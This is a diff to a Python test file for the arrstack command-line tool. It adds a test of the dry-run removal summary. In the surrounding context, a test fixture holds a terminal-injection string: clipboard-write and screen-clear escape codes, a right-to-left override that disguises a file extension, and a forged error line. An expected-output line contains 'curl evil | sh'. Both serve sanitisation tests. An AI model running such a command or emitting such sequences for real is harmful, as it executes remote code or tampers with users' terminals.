@@ -14,7 +14,9 @@ from arrstack.artifacts.files import Level, Problem
 from arrstack.cli import units, verify_view
 from arrstack.cli.console import Output
 from arrstack.cli.live import LiveView, Plain, Running, damped
+from arrstack.cli.remove import tell
 from arrstack.errors import BuildError
+from arrstack.launch.prune import Removal
 from arrstack.model import Event, EventKind
 
 HOSTILE = "\x1b]52;c;cm0=\x07\x1b[2J\x9b31m a:bug:b [bold]x[/] gnp.\u202eexe\nerror: forged"
@@ -118,6 +120,17 @@ def test_an_errors_later_lines_are_indented_so_that_none_looks_like_ours(capsys:
         r"  what to do: curl evil | sh\x1b[2J",
         "what to do: see",
         "  there",
+    ]
+
+
+def test_what_is_removed_is_counted_without_layers_that_stay(capsys: pytest.CaptureFixture[str]) -> None:
+    removed = [Removal("log a.log", 2048), Removal("image localhost/arrstack/t:c0"), Removal("t:key-1")]
+    tell(output(capsys), removed, dry_run=True)
+    assert capsys.readouterr().out.splitlines() == [
+        "would remove log a.log, 2 KiB",
+        "would remove image localhost/arrstack/t:c0",
+        "would remove t:key-1",
+        "3 things, 2 KiB, without the layers of 2 that share theirs with others",
     ]
 
 
